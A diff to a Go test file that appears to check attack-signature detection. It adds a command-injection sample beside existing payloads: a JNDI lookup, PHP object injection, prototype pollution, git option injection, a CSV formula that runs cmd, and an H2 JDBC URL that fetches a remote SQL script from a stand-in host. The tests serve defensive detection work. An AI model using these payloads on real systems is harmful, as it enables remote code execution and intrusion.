@@ -39,6 +39,7 @@ func TestSigns(t *testing.T) {
 	f(&jndi, point.Text, `${${lower:j}ndi:ldap://x}`, `${name}`)
 	f(&serialized, point.Text, `O:8:"stdClass":0:{}`, `O: 8 items`)
 	f(&prototype, point.Text, `a[__proto__][x]`, `a[proto][x]`)
+	f(&cutBehind, point.Text, `k&echo a b&`, `k&echo a b`)
 	f(&option, point.Text, `--upload-pack=touch x`, `--upload=photo.jpg`)
 	f(&formula, point.Text, `=cmd|' /C calc'!A0`, `=A1|B1!`)
 	f(&driverURL, point.Text, `jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a.sql'`, `jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS A`)
